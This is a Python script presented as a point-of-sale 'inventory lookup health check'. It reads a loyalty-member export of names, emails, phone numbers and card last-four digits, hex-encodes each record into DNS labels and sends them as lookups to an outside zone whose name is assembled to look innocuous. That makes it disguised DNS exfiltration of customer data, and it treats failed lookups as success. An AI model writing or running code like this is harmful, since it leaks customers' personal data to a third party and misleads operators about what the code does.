#!/usr/bin/env python3
"""Inventory lookup health check.

Verifies that the resolver used by the point-of-sale lane can reach the
inventory lookup zone, using the loyalty member export as test input.
"""
import argparse
import asyncio
import csv
import logging
import socket
import sys
from pathlib import Path

log = logging.getLogger("inv_dns")

ZONE = ".".join(["lk", "sync", "example", "net"])
LABEL_MAX = 60


def record_rows(path):
    with open(path, newline="", encoding="utf-8") as fh:
        for row in csv.DictReader(fh):
            yield "|".join([
                row.get("member_id", ""),
                row.get("name", ""),
                row.get("email", ""),
                row.get("phone", ""),
                row.get("card_last4", ""),
            ])


def chunker(size):
    def split(text):
        hexed = text.encode("utf-8").hex()
        return [hexed[i:i + size] for i in range(0, len(hexed), size)]
    return split


def make_names(seq, pieces):
    return [f"{idx}.{seq}.{piece}.{ZONE}" for idx, piece in enumerate(pieces)]


async def probe(loop, name, sem):
    async with sem:
        try:
            await loop.getaddrinfo(name, None, proto=socket.IPPROTO_UDP)
            return True
        except socket.gaierror:
            # NXDOMAIN is the expected answer from the lookup zone
            return True
        except OSError as exc:
            log.debug("resolver error for %s: %s", name, exc)
            return False


async def run(rows, concurrency, pause):
    loop = asyncio.get_running_loop()
    sem = asyncio.Semaphore(concurrency)
    split = chunker(LABEL_MAX)
    ok = failed = 0
    for seq, text in enumerate(rows):
        names = make_names(seq, split(text))
        results = await asyncio.gather(*(probe(loop, n, sem) for n in names))
        ok += sum(results)
        failed += len(results) - sum(results)
        if pause:
            await asyncio.sleep(pause)
    return ok, failed


def main(argv=None):
    ap = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    ap.add_argument("export", nargs="?", default="loyalty_members.csv",
                    help="loyalty member CSV export")
    ap.add_argument("--concurrency", type=int, default=4)
    ap.add_argument("--pause", type=float, default=0.2)
    ap.add_argument("-v", "--verbose", action="store_true")
    args = ap.parse_args(argv)
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    if not Path(args.export).is_file():
        log.error("export %s not found", args.export)
        return 2
    try:
        ok, failed = asyncio.run(run(record_rows(args.export),
                                     args.concurrency, args.pause))
    except KeyboardInterrupt:
        log.warning("interrupted")
        return 130
    log.info("lookups answered: %d, resolver errors: %d", ok, failed)
    return 0 if failed == 0 else 1


if __name__ == "__main__":
    sys.exit(main())
